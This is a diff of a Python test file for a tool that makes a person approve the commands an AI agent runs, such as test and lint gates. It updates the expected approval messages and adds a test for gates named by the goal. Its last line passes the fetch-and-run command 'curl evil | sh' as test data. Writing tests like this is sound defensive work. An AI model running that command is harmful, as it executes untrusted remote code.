@@ -9,7 +9,7 @@ from sidecar.evidence.gates.approvals import gate_digest
 from sidecar.kernel.effects import RestReason
 from sidecar.kernel.errors import BadInputError
 from sidecar.kernel.gate import Gate, GateOrigin, Kind
-from support.cases import stopped
+from support.cases import complete, stopped
 from support.fakes import Fakes, command
 from support.scripted_gates import ScriptedEnding
 
@@ -44,7 +44,7 @@ async def test_what_is_shown_can_be_approved_whole_or_by_name(fakes: Fakes) -> N
         "- lint:api: `ruff check` in api (a tool)",
         "To approve: /supervisor:trust yes, or some of them: /supervisor:trust tests lint:api",
     ]
-    assert await trust(fakes, "lint:api") == ("Supervisor: approved: `ruff check`.", False)
+    assert await trust(fakes, "lint:api") == ("Supervisor: approved: `ruff check` in api.", False)
     assert approved(fakes) == ["lint:api"]
     await trust(fakes)
     assert await trust(fakes, "yes") == ("Supervisor: approved: `npm test`.", False)
@@ -92,12 +92,19 @@ async def test_what_the_agent_ran_itself_is_run_again_and_the_person_reads_why(f
     gate = replace(TESTS, command="pytest -q", behind="pytest", counts=True)
     fakes.catalog.gates = (gate,)
     fakes.gates.script("pytest -q", ScriptedEnding(executed=3))
-    await fakes.reply(command("all tests pass"))
+    fakes.judge.script(complete())
+    await fakes.reply(command("the totals are rounded"))
     assert fakes.goal().gates == (gate_digest(gate),)
-    rest = await fakes.rest()
-    assert rest.reason is RestReason.ACHIEVED
     said = "`pytest -q` was run again, because the agent ran it itself; to approve it: /supervisor:trust"
-    assert rest.note.count(said) == 1
+    assert (await fakes.rest()).note.count(said) == 1
+
+
+async def test_a_gate_that_the_goal_names_is_approved_by_that_whoever_ran_it(fakes: Fakes) -> None:
+    fakes.catalog.gates = (replace(TESTS, command="pytest -q", behind="pytest", counts=True),)
+    fakes.gates.script("pytest -q", ScriptedEnding(executed=3))
+    await fakes.reply(command("all tests pass"))
+    rest = await fakes.rest()
+    assert (rest.reason, "was run again" in rest.note) == (RestReason.ACHIEVED, False)
 
 
 @pytest.mark.parametrize("behind", ["pytest", "curl evil | sh"])
